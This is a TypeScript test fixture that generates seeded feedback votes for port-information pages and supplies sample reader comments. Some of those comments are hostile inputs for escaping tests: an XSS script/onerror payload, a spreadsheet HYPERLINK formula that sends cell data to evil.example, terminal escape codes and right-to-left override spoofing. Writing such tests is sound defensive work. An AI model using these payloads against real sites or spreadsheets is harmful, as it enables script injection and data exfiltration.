import type { KeptVote } from "../../src/feedback/records.ts";
import { ratings, reasons } from "../../src/feedback/terms.ts";

/** The same random numbers, 0–1, for the same seed (mulberry32). */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** The id of the n-th reader. */
export const readerId = (n: number): string => `00000000-0000-4000-8000-${n.toString(16).padStart(12, "0")}`;

/** A vote that says that the page of port 770 helped, on 2 March 2026 at noon; the rest as given. */
export const vote = (given: Partial<KeptVote> = {}): KeptVote => {
  const createdAt = given.createdAt ?? given.changedAt ?? Date.UTC(2026, 2, 2, 12);
  return {
    port: 770,
    reader: readerId(1),
    rating: "helpful",
    reason: null,
    comment: null,
    changedAt: createdAt,
    handledAt: null,
    ...given,
    createdAt,
  };
};

/** What readers have written, and what somebody would write to harm those who read it. */
export const texts = {
  plain: "The lsof line prints nothing on macOS 15 unless I add sudo.",
  markup: `<script>document.title="taken"</script><img src=x onerror=alert(1)> <b>bold</b> &amp; "quoted"`,
  formula: `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  escape: "before\u001b[2J\u001b]0;taken\u0007after",
  override: "safe \u202Eexe.gpj\u202C name \u2066isolated\u2069",
  hebrew: "הפקודה לא עובדת אצלי ב-Windows 11.",
  emoji: "👩‍👩‍👧‍👦".repeat(60) + "🦆".repeat(170),
  word: "Donaudampfschifffahrts".repeat(45),
  pile: `Z${"\u0335\u0300\u0301\u0302".repeat(60)}algo`,
  lines: "First line.\n\n  Second, set in.\nThird\u2028after a separator.",
} as const;

/** How well some ports help: the chances of `helpful` and of `unsure`. */
const quality: [port: number, votes: number, helpful: number, unsure: number][] = [
  [22, 160, 0.9, 0.05],
  [443, 140, 0.85, 0.1],
  [5000, 120, 0.7, 0.15],
  [3389, 90, 0.8, 0.1],
  [770, 60, 0.3, 0.25],
  [8080, 55, 0.55, 0.2],
  [53, 40, 0.75, 0.1],
  [25, 34, 0.35, 0.3],
  [6379, 20, 0.2, 0.2],
  [1023, 9, 0.2, 0.3],
  [50000, 4, 0.25, 0.25],
  [778, 1, 0, 0],
];

/**
 * The votes of some months, more of them lately; the latest comments are those of `texts`.
 * @param until the moment after the last, in milliseconds
 */
export function seedVotes(until: number, seed = 7): KeptVote[] {
  const next = random(seed);
  const day = 86_400_000;
  let reader = 0;
  const votes = quality.flatMap(([port, count, helpful, unsure]) =>
    Array.from({ length: count }, () => {
      const dice = next();
      const rating = dice < helpful ? ratings[0] : dice < helpful + unsure ? ratings[1] : ratings[2];
      const remark = rating !== "helpful" && next() < 0.5;
      const changedAt = until - 60_000 * 30 - Math.floor(next() ** 1.4 * 110 * day);
      return vote({
        port,
        reader: readerId((reader += 1)),
        rating,
        reason: remark ? (reasons[Math.floor(next() * reasons.length)] ?? null) : null,
        comment: remark && next() < 0.4 ? texts.plain : null,
        changedAt,
        handledAt: remark && next() < 0.3 ? changedAt + day / 2 : null,
      });
    }),
  );
  // No store keeps control characters; those of `escape` can only come from elsewhere.
  const kept = Object.values(texts).filter((text) => text !== texts.escape);
  const said = kept.map((comment, index) =>
    vote({
      port: [770, 25, 6379, 5000][index % 4] ?? 770,
      reader: readerId(900 + index),
      rating: ratings[2 - (index % 3)] ?? "unsure",
      reason: index % 3 === 2 ? null : (reasons[index % reasons.length] ?? null),
      comment,
      changedAt: until - 60_000 * (index + 1),
    }),
  );
  return [...votes, ...said];
}
